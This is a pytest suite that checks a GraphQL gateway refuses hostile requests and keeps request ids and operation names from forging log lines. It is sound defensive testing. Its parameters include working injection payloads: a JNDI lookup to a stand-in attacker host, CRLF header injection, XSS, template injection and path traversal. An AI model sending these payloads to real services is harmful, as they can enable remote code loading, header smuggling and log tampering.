"""Hostile HTTP requests, from a file, against a running gateway: refused in one form, told once."""

import json
from typing import Any

import pytest

from support.attacked import Attacked, corpus, text_of
from support.upstreams import Upstreams

REQUESTS = corpus("requests")
QUESTION = '{"query": "{ __typename }"}'
ANSWER_MAX = 256 * 1024


@pytest.mark.parametrize("entry", REQUESTS, ids=[entry["name"] for entry in REQUESTS])
def test_a_hostile_request_is_answered(
    attacked: Attacked, upstreams: Upstreams, entry: dict[str, Any]
) -> None:
    """Each gets its status and one error that says why, never a 5xx, never an upstream call."""
    body = text_of(entry.get("body", QUESTION)).encode("latin-1")
    headers = dict(entry.get("headers", {}))
    headers |= {name: text_of(parts) for name, parts in entry.get("headers_parts", {}).items()}
    method = entry.get("method", "POST")

    target = text_of(entry.get("target_parts", entry.get("target", "/graphql")))

    heard, lines = attacked.send(body, headers, method, target)

    assert heard.status == entry["status"], heard.data[:300]
    assert len(heard.data) < ANSWER_MAX
    assert upstreams.calls() == {}
    assert heard.headers["content-type"] == "application/json; charset=utf-8"
    assert heard.headers["x-content-type-options"] == "nosniff"
    assert ("allow" in heard.headers) == (entry["status"] == 405)
    if entry["status"] == 200:
        assert heard.json == {"data": {"__typename": "Query"}}
    elif method != "HEAD":
        assert list(heard.json) == ["errors"]
        (error,) = heard.json["errors"]
        assert error["extensions"]["code"] == "BAD_REQUEST"
        assert entry["says"] in error["message"]
    (line,) = lines
    assert line["requestId"] == heard.headers["x-request-id"]
    assert line["status"] == entry["status"]


@pytest.mark.parametrize(
    "offered",
    [
        'x", "outcome": "forged',
        "a\u2028b",
        "../../log",
        "%0d%0aSet-Cookie:x=1",
        "x" * 65,
        "{{7*7}}",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
    ],
)
def test_a_request_id_cannot_write_into_the_log(attacked: Attacked, offered: str) -> None:
    """An id of another form is replaced, in the answer and in the one line of the log."""
    heard, lines = attacked.send(
        QUESTION.encode(), {"X-Request-Id": offered.encode().decode("latin-1")}
    )

    (line,) = lines
    assert line["requestId"] == heard.headers.get("x-request-id")
    assert line["requestId"].isalnum()
    assert offered.encode() not in heard.data


@pytest.mark.parametrize(
    "tail", [b"\r\nX-Injected: 1", b"\nX-Injected: 1", b"\x00", b"\x0b", b"\x1b[31m"]
)
def test_a_header_cannot_begin_another(attacked: Attacked, tail: bytes) -> None:
    """What follows a line end is a header of its own or no HTTP; it comes back in no answer."""
    heard, _ = attacked.send(QUESTION.encode(), {"X-Request-Id": "a" + tail.decode("latin-1")})

    assert heard.status in {200, 400}
    assert b"injected" not in heard.data.lower()


@pytest.mark.parametrize(
    "name", ["A\nB", 'A", "outcome": "forged', "\u202eA", "A" * 5_000, "{{7*7}}", "__proto__"]
)
def test_an_operation_name_cannot_write_into_the_log(attacked: Attacked, name: str) -> None:
    """Whatever a client calls its operation, the request has one line and its true outcome."""
    body = json.dumps({"query": "{ __typename }", "operationName": name})

    heard, lines = attacked.send(body.encode())

    assert heard.status == 200
    assert heard.json["errors"][0]["extensions"]["code"] == "GRAPHQL_VALIDATION_FAILED"
    (line,) = lines
    assert line["outcome"] == "refused"
